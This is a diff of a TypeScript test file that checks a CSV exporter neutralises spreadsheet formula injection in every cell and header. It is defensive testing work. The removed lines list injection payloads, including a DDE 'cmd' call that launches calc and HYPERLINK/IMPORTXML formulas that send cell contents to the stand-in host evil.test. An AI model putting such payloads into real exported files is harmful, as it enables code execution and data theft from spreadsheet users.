@@ -1,30 +1,19 @@
 import { parse } from "csv-parse/sync";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { formulaPayloads } from "../../test/formula-payloads.ts";
 import { type CsvCell, toCsv } from "./csv.ts";
 
 const read = (csv: string): string[][] => parse(csv, { bom: true });
 const one = (cell: CsvCell) => read(toCsv([{ head: "x", cell: () => cell }], [0]))[1]?.[0];
 
-const starts = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", "−"];
-const before = ["", " ", "  ", "\u00A0", "\u200B", "\uFEFF", '"', "'", ' "', "\n"];
-const formulas = [
-  "1+1",
-  'cmd|" /C calc"!A0',
-  'HYPERLINK("http://evil.test?x="&A1,"Open")',
-  'IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
-];
-const payloads = before.flatMap((space) =>
-  starts.flatMap((start) => formulas.map((body) => `${space}${start}${body}`)),
-);
-
 /** What a spreadsheet that trims spaces, marks and quotes would look at first. */
-const firstSeen = (cell: string) => cell.replace(/^[\s\p{Cf}"`]+/u, "").slice(0, 1);
+const firstSeen = (cell: string) => cell.replace(/^[\s\p{Cc}\p{Cf}"`]+/u, "").slice(0, 1);
 
 describe("toCsv", () => {
   it("leaves none of 200 and more formula payloads live", () => {
-    expect(payloads.length).toBeGreaterThanOrEqual(200);
-    for (const payload of payloads) {
+    expect(formulaPayloads.length).toBeGreaterThanOrEqual(200);
+    for (const payload of formulaPayloads) {
       const cell = one(payload);
       expect(cell, JSON.stringify(payload)).toBe(`'${payload}`);
       expect(firstSeen(cell ?? ""), JSON.stringify(payload)).toBe("'");
@@ -33,10 +22,8 @@ describe("toCsv", () => {
 
   it("leaves no formula live in whatever text it is given, heads included", () => {
     const text = fc.oneof(
-      fc.string({ unit: "binary" }),
-      fc
-        .tuple(fc.constantFrom(...before), fc.constantFrom(...starts), fc.string())
-        .map((parts) => parts.join("")),
+      fc.array(fc.nat(0xffff)).map((codes) => String.fromCharCode(...codes)),
+      fc.tuple(fc.constantFrom(...formulaPayloads), fc.string()).map((parts) => parts.join("")),
     );
     fc.assert(
       fc.property(text, text, (head, cell) => {
